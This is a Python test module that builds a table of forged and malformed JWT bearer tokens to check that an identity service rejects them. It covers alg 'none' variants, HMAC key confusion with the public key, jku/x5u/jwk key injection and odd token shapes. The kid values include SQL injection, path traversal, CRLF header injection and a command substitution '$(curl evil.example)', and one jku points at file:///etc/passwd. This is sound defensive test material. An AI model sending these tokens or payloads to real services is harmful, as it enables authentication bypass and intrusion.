"""The table of attacks on bearer tokens: every row is a token that somebody could send instead of a good one.

Columns: what it is, how it is made, and in which modes it is let in although it looks odd, because the odd part is not
used there. Everything else is 401 in every mode. A row is made by somebody who holds a good key where the row is about
content, and by a stranger where it is about signatures. Numbers in the headings are those of `security.md`.
"""

import hashlib
import hmac
import json
from typing import Final

import msgspec

from identity.forging import (
    CLAIM_ATTACKS,
    DER,
    GARBAGE,
    GONE,
    PEM,
    SIGNATURE_ATTACKS,
    SPKI,
    Attack,
    Forger,
    b64,
    cut,
    other_key,
)

LOCAL, KEYS, SECRET = "local accounts", "Supabase JWKS", "Supabase secret"
MODES: Final = (LOCAL, KEYS, SECRET)

P256_ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


class Row(msgspec.Struct, frozen=True, kw_only=True):
    name: str
    attack: Attack
    passes: tuple[str, ...] = ()
    """The modes in which the token is good all the same."""


def _signed_by(f: Forger, secret: bytes, **header: object) -> str:
    signed = f"{b64(json.dumps(f.header(**{'alg': 'HS256', **header})))}.{b64(json.dumps(f.claims()))}"
    return f"{signed}.{b64(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def _with_signature(f: Forger, signature: bytes) -> str:
    return f"{f.token().rpartition('.')[0]}.{b64(signature)}"


def _own_jwk(f: Forger, **members: object) -> str:
    secret = b"k" * 32
    return _signed_by(f, secret, jwk={"kty": "oct", "k": b64(secret), "kid": f.kid, **members})


ALGORITHMS: dict[str, Attack] = {  # S17
    "alg 'nonE', signature x": lambda f: cut(f.token(f.header(alg="nonE")), 2) + "eA",
    "alg ' none'": lambda f: cut(f.token(f.header(alg=" none")), 2),
    "alg 'none', no kid, no typ": lambda f: cut(f.token(f.header(alg="none", kid=GONE, typ=GONE)), 2),
    "alg false": lambda f: f.token(f.header(alg=False)),
    "alg an object": lambda f: f.token(f.header(alg={"name": "HS256"})),
    "alg with a NUL": lambda f: f.token(f.header(alg=f"{f.alg}\x00")),
    "alg in full width": lambda f: f.token(f.header(alg="\uff25\uff33256")),
    "HS256 with the key set": lambda f: _signed_by(f, json.dumps({"keys": [f.jwk()]}).encode()),
    "HS256 with the JWK, compact and sorted": lambda f: _signed_by(
        f, json.dumps(f.jwk(), sort_keys=True, separators=(",", ":")).encode()
    ),
    "HS256 with the PEM in CRLF": lambda f: _signed_by(f, f.public(PEM, SPKI).replace(b"\n", b"\r\n")),
    "HS256 with the DER in base64": lambda f: _signed_by(f, b64(f.public(DER, SPKI)).encode()),
    "HS256 with the kid": lambda f: _signed_by(f, f.kid.encode()),
    "HS256 with the issuer": lambda f: _signed_by(f, f.issuer.encode()),
    "HS256 with zeros": lambda f: _signed_by(f, bytes(32)),
    "HS256 with the word secret": lambda f: _signed_by(f, b"secret"),
    "HS384 in name, HS256 in truth": lambda f: _signed_by(f, f.public(PEM, SPKI), alg="HS384"),
    "PS256 in name": lambda f: f.token(f.header(alg="PS256")),
    "a direct encryption": lambda f: f.token(f.header(alg="dir", enc="A256GCM")),
    "r and s are the order of the curve": lambda f: _with_signature(f, P256_ORDER.to_bytes(32) * 2),
    "r and s are one": lambda f: _with_signature(f, (1).to_bytes(32) * 2),
    "a signature of 63 bytes": lambda f: _with_signature(f, b"s" * 63),
    "a signature of 65 bytes": lambda f: _with_signature(f, b"s" * 65),
}

KEY_TRICKS: dict[str, Attack] = {  # S19: nothing that a token names is ever fetched, opened or asked for
    "jku and the kid of its set": lambda f: other_key(f, jku=f"{f.elsewhere}/jwks.json", kid="theirs"),
    "jku a list": lambda f: other_key(f, jku=[f"{f.elsewhere}/jwks.json"]),
    "jku a file": lambda f: other_key(f, jku="file:///etc/passwd"),
    "jku without signature": lambda f: cut(f.token(f.header(alg="none", jku=f"{f.elsewhere}/jwks.json")), 2),
    "x5u and the kid of its key": lambda f: other_key(f, x5u=f"{f.elsewhere}/cert.pem", kid="theirs"),
    "x5c, another certificate": lambda f: other_key(f, x5c=["MIIBszCCAVmgAwIBAgIUX"]),
    "x5t, another certificate": lambda f: other_key(f, **{"x5t": "x", "x5t#S256": "y"}),
    "jwk, a symmetric key": _own_jwk,
    "jwk, a symmetric key of another name": lambda f: _own_jwk(f, alg="ES256", use="sig"),
    "jwk a URL": lambda f: other_key(f, jwk=f"{f.elsewhere}/key.json"),
    "kid a URL elsewhere": lambda f: other_key(f, kid=f"{f.elsewhere}/jwks.json"),
    "kid a file, the key its empty content": lambda f: _signed_by(f, b"", kid="../../../../../dev/null"),
    "kid SQL that gives the key": lambda f: _signed_by(f, b"secret", kid="x' union select 'secret' -- "),
    "kid a command": lambda f: other_key(f, kid="$(curl evil.example)"),
    "kid with line ends": lambda f: other_key(f, kid="a\r\nX-Admin: 1"),
    "kid not ASCII": lambda f: other_key(f, kid="cl\u00e9-\U0001f511"),
    "kid a lone surrogate": lambda f: other_key(f, kid="\ud800"),
    "kid true": lambda f: f.token(f.header(kid=True)),
    "kid an object": lambda f: f.token(f.header(kid={"$ne": None})),
    "kid twice": lambda f: f.sign(f'{{"alg":"{f.alg}","kid":"x","kid":"{f.kid}"}}', json.dumps(f.claims())),
    "crit a text": lambda f: f.token(f.header(crit="exp")),
    "crit null": lambda f: f.token(f.header(crit=None)),
    "crit of a known member": lambda f: f.token(f.header(crit=["kid"])),
    "iss elsewhere": lambda f: f.token(iss=f"{f.elsewhere}/auth/v1"),
    "iss elsewhere, another key": lambda f: Forger.token(
        f, f.header(jku=f"{f.elsewhere}/auth/v1/.well-known/jwks.json"), iss=f"{f.elsewhere}/auth/v1"
    ),
}

OTHER_TOKENS: dict[str, Attack] = {  # S18: good for something else
    "an id token": lambda f: f.token(aud="client-7", nonce="n", at_hash="h", role=GONE, session_id=GONE),
    "a token for a third-party application": lambda f: f.token(client_id="app-7", scope="openid email"),
    "a token of GoTrue's administrator": lambda f: f.token(role="supabase_admin", sub=GONE),
    "a token of an anonymous user": lambda f: f.token(is_anonymous=True, email=""),
    "a token nested in a token": lambda f: f.sign(json.dumps(f.header(cty="JWT")), f.token()),
    "a token without session": lambda f: f.token(session_id=GONE, amr=GONE),
    "a refresh token, old form": lambda _: "v4mpqz7h2kd9",
    "a publishable key": lambda _: "sb_publishable_q1W2invented",
    "a secret key": lambda _: "sb_secret_q1W2invented",
    "an API key that does not exist": lambda _: f"wai_{'a' * 43}",
    "an API key that is a good token otherwise": lambda f: f"wai_{f.token()}",
    "a token of the fake": lambda f: f"user:{f.user_id}",
    "PASETO": lambda _: "v4.public.eyJzdWIiOiJhbmEifQ.c2lnbmF0dXJl",
    "Google's": lambda _: "ya29.a0AfH6SMBinvented",
    "a session cookie": lambda f: f"sb-access-token={f.token()}",
}

SHAPES: dict[str, Attack] = {
    "the signature twice": lambda f: f"{f.token()}{f.token().rpartition('.')[2]}",
    "the token twice": lambda f: f"{f.token()}.{f.token()}",
    "the token twice with a comma": lambda f: f"{f.token()},{f.token()}",
    "the scheme twice": lambda f: f"Bearer {f.token()}",
    "in quotes": lambda f: f'"{f.token()}"',
    "a space inside": lambda f: f.token().replace(".", " .", 1),
    "a tab inside": lambda f: f.token().replace(".", "\t.", 1),
    "a NUL at the end": lambda f: f"{f.token()}\x00",
    "dots of another script": lambda f: f.token().replace(".", "\u3002"),
    "percent-encoded dots": lambda f: f.token().replace(".", "%2E"),
    "16 kB": lambda f: f.token(user_metadata={"x": "x" * 12_000}),
    "1 MB": lambda f: f.token() + "a" * 2**20,
}

PASSES: dict[str, tuple[str, ...]] = {
    # The header is stripped before it is read (RFC 9110, 5.5); no real server lets a line end through.
    "a space before": MODES,
    "a line end after": MODES,
    # With one shared secret there is no choice of keys: a key id is not read.
    "alg 'HS256' with a signature": (SECRET,),
    "kid missing": (SECRET,),
    "kid empty": (SECRET,),
    "kid a path": (SECRET,),
    "kid SQL": (SECRET,),
    "kid a URL": (SECRET,),
    "kid NUL": (SECRET,),
    "kid in capitals": (SECRET,),
}
"""The odd ones that are let in, and why."""

TABLE: Final = tuple(
    Row(name=name, attack=attack, passes=PASSES.get(name, ()))
    for name, attack in (
        *SIGNATURE_ATTACKS.items(),
        *ALGORITHMS.items(),
        *KEY_TRICKS.items(),
        *CLAIM_ATTACKS.items(),
        *OTHER_TOKENS.items(),
        *SHAPES.items(),
        *((f"garbage {text[:20]!r} of {len(text)}", lambda _, text=text: text) for text in GARBAGE),
    )
)
